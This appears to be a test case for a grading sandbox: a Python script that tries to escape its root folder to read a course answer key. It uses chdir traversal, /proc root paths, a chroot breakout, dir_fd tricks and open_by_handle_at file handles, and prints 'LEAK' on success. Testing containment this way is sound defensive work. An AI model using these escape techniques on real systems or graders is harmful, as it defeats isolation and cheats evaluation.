# tries: to get out of its root folder: up, through /proc, by a descriptor, by chroot, by a file handle
# kind: spying
# earns: 0
# verdict: any
# contained by: sandbox: a mount namespace whose root is the sandbox's own; seccomp

# %% double
import ctypes
import os

COURSE = "@COURSE@/source/small/answers.txt"
libc = ctypes.CDLL(None, use_errno=True)


def show(path, **options):
    try:
        print(os.read(os.open(path, os.O_RDONLY, **options), 1000))
    except OSError:
        pass


for _ in range(40):
    os.chdir("..")
show(COURSE.lstrip("/"))
for root in (
    "/proc/1/root",
    "/proc/self/root",
    "/proc/1/cwd/../../..",
    f"/proc/{os.getppid()}/root",
    "/proc/thread-self/root",
):
    show(root + COURSE)
top = os.open("/", os.O_RDONLY)
try:
    os.mkdir("/tmp/cell")
    os.chroot("/tmp/cell")
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    print("LEAK: chroot")
except OSError:
    pass
show("../../../.." + COURSE, dir_fd=top)
handle = (ctypes.c_ubyte * 136)(8, 0, 0, 0, 1, 0, 0, 0, 2)
for folder in (b"/", b"/usr", b"/tmp"):
    descriptor = libc.open(folder, 0)
    opened = libc.open_by_handle_at(descriptor, ctypes.byref(handle), 0)
    if opened >= 0:
        print("LEAK: a file handle was opened")
        show(COURSE.lstrip("/"), dir_fd=opened)
